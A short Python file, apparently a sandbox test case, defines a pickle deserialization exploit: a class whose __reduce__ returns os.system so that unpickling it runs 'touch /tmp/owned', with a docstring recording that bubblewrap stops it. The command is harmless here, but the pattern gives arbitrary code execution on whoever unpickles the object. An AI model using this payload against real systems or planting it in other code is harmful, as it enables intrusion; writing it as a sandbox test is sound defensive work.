"""Returns an object that runs a program wherever it is unpickled.

stopped_by: nothing is pickled on the way out
plain bwrap: stopped
"""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def attack():
    return Payload()
